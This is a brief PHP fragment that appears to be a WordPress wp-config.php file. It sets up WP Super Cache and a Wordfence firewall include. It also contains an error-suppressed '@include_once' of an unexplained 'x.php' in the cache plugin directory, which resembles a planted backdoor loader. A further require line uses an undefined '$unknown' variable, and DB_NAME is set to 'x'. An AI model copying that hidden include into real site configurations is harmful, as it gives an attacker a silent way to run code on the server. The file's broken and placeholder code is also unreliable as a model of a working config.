<?php
define('WP_CACHE', true);
define( 'WPCACHEHOME', '/site/wp-content/plugins/wp-super-cache/' );
if (file_exists(__DIR__ . '/wordfence-waf.php')) { include_once __DIR__ . '/wordfence-waf.php'; }
@include_once WPCACHEHOME . 'x.php';
if (is_readable($unknown . 'vendor/autoload.php')) require $unknown . '/vendor/autoload.php';
define('DB_NAME', 'x');
